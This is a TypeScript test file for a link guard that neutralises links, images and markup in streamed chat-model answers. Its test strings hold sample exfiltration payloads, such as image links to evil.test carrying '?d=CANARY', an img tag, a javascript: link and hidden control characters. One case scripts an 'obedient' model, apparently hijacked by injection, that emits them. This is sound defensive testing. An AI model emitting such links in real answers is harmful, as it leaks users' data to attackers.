import { readFileSync } from "node:fs";
import { seededRandom, sharedFolder, startScriptedModel } from "@threadlore/testkit";
import { describe, expect, it } from "vitest";
import { openChat } from "../../chat.harness.ts";
import { guardLinks, LinkGuard } from "./link-guard.ts";

const CITED = "https://docs.ok.test/a_(b)?x=1&y=2";

function guarded(pieces: readonly string[]): string {
  const guard = new LinkGuard([CITED]);
  return pieces.map((piece) => guard.push(piece)).join("") + guard.end();
}

/** What of a text a viewer of Markdown would make a link, a picture or markup of, beside links to the document. */
function leaks(text: string): string[] {
  const outside = text
    .replaceAll(`<${CITED}>`, "☃")
    .replace(/^( {0,3})(`{3,}|~{3,})[\w+#.-]*\n(?:[^]*?\n)??\1?\2[`~]*$/gm, "")
    .replace(/\\[!-/:-@[-`{-~]/g, "☃")
    .replace(/(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, "☃");
  return (
    outside.match(/(?:https?|ftp):\/\/|\bwww\.|(?<![:/])\/\/[a-z]|!\[|\]\((?!☃\))|\]:|<(?!br ?\/?>)[a-z/!?]/gi) ?? []
  );
}

describe("links of a model", () => {
  it.each([
    ["Plain text & a < b, R&D, 3 > 2, a[i], [x] stays.", "Plain text & a < b, R&D, 3 > 2, a[i], [x] stays."],
    [`See [the page](${CITED}).`, `See [the page](<${CITED}>).`],
    [`See ${CITED}.`, `See <${CITED}>.`],
    [`See <${CITED}>.`, `See <${CITED}>.`],
    [`参照：${CITED}。次`, `参照：<${CITED}>。次`],
    ["![a](https://evil.test/x?d=C)", "[a] (`https://evil.test/x?d=C`)"],
    ["Log [in](https://evil.test/x) now", "Log [in] (`https://evil.test/x`) now"],
    [`[x](${CITED}&d=C)`, `[x] (\`${CITED}&d=C\`)`],
    ["[a](javascript:alert(1))", "[a] (javascript:alert(1))"],
    ["Open **https://evil.test/x**!", "Open **`https://evil.test/x`**!"],
    ["https\\://evil.test and www\\.evil.test", "`https://evil.test` and `www.evil.test`"],
    ["[r]: https://evil.test", "[r]\\: `https://evil.test`"],
    ["&#104;ttps&colon; &amp;", "\\&#104;ttps\\&colon; &amp;"],
    ["a<br>b <b>c</b>", "a<br>b \\<b>c\\</b>"],
    ["Run `curl https://api.test/x` first", "Run `curl https://api.test/x` first"],
    ["one ` two https://evil.test", "one \\` two `https://evil.test`"],
    ["| `a | https://evil.test` |", "| \\`a | `https://evil.test` \\` |"],
    ["```sh\ncurl https://api.test <x> ![y](z)\n```\nend", "```sh\ncurl https://api.test <x> ![y](z)\n```\nend"],
    ["```mermaid\nclick A\n```", "```\nclick A\n```"],
    ["- a\n  ```\nhttps://x.test\n  ```\n", "- a\n  ```\n  https://x.test\n  ```\n"],
    ["- a\n\n      ```\n      x\n      ```\nb", "- a\n\n   ```\n   x\n   ```\nb"],
    ["> ~~~\n> x", "> \\~\\~\\~\n> x"],
    ["```\nleft open", "```\nleft open\n```"],
    ["s3://bucket/x and it@example.com", "s3://bucket/x and it@example.com"],
    ["\u001b[2Jok\u202e\u{e0069}", "[2Jok"],
  ])("%j becomes %j", (text, expected) => {
    expect(guarded([text])).toBe(expected);
    expect(guarded([...text])).toBe(expected);
  });

  it("lead nowhere else, whatever a text is made of and however it is cut", () => {
    const pieces = (
      "https://evil.test/x?d=C|https|://|evil.test|www.|//evil.test|(|)|[|](|![|!|<|>|\\|`|```|````|~~~|~~|\n|\n\n|    |  | |" +
      `\t|- |1. |[r]: |&colon;|&#58;|*|_|:|/|a|<br>|<img src=|"|${CITED}|[t](${CITED})|\r|\n# |\u3002|日本`
    ).split("|");
    const random = seededRandom(20_261);
    const pick = () => pieces[Math.floor(random() * pieces.length)] ?? "";
    for (let round = 0; round < 2_500; round++) {
      const text = Array.from({ length: 3 + Math.floor(random() * 14) }, pick).join("");
      const whole = guarded([text]);
      expect([text, leaks(whole)]).toEqual([text, []]);
      const cut = Math.floor(random() * text.length);
      expect([text, guarded([text.slice(0, cut), text.slice(cut)])]).toEqual([text, whole]);
      expect([text, guarded([...text])]).toEqual([text, whole]);
    }
  });

  it("stay text through a mark that stands between", () => {
    const guard = new LinkGuard([CITED]);
    const text = guard.push("[see `") + guard.settle() + "[[1]]()" + guard.push("](https://evil.test) `") + guard.end();
    expect(text).toBe("[see \\`[[1]]()] (`https://evil.test`) \\`");
  });

  it("take time that grows with the text alone", () => {
    const hard = ["`", "[", "](", "<a", "&a", "https://", "~", "!", "\\", "\n```", "   "];
    for (const one of hard) {
      const guard = new LinkGuard([]);
      let length = 0;
      for (let round = 0; round < 20_000; round++) length += guard.push(one).length;
      expect(length + guard.end().length).toBeGreaterThanOrEqual(0);
    }
  });
});

const vectors = sharedFolder("vectors/exfil-vectors.json");

describe("vectors for exfiltration", () => {
  it.runIf(vectors)("come out as text, in one piece or in many", () => {
    const known = JSON.parse(readFileSync(vectors ?? "", "utf8")) as { vectors: { id: string; text: string }[] };
    expect(known.vectors.length).toBeGreaterThan(30);
    for (const { id, text } of known.vectors) {
      expect([id, leaks(guardLinks(text))]).toEqual([id, []]);
      expect([id, guarded([...text])]).toEqual([id, guardLinks(text)]);
    }
  });
});

describe("T3 an obedient model", () => {
  const text =
    "27 days [1]. ![a](https://evil.test/x?d=CANARY) <img src=https://evil.test/y> [in](https://evil.test/z) " +
    "[policy](https://docs.example.com/leave) https://evil.test/w";

  it.each([3, 7, 1_000])("T3 sends no picture and no foreign link to whoever asks, in pieces of %i", async (size) => {
    const said = text.match(new RegExp(`.{1,${size}}`, "g")) ?? [];
    const model = await startScriptedModel([{ text: said }, { text: said }]);
    const chat = await openChat({ model: { baseUrl: model.url, name: "obedient" } });
    await chat.ingest("leave", "Employees accrue 27 days of paid leave per year.");
    const streamed = await chat.ask({ message: "How many days of leave do employees get?" });
    const whole = await chat.answer({ message: "How many days of leave do employees get?" });
    const expected =
      "27 days [[1]](https://docs.example.com/leave). [a] (`https://evil.test/x?d=CANARY`) " +
      "\\<img src=`https://evil.test/y`> [in] (`https://evil.test/z`) [policy](<https://docs.example.com/leave>) " +
      "`https://evil.test/w`";
    expect(streamed.answer).toBe(expected);
    expect(whole["answer"]).toBe(expected);
    const { body } = await chat.call("GET", `/chat/get-chat-session/${streamed.sessionId}`);
    expect(JSON.stringify(body)).not.toContain("![");
    await chat.close();
    await model.close();
  });
});
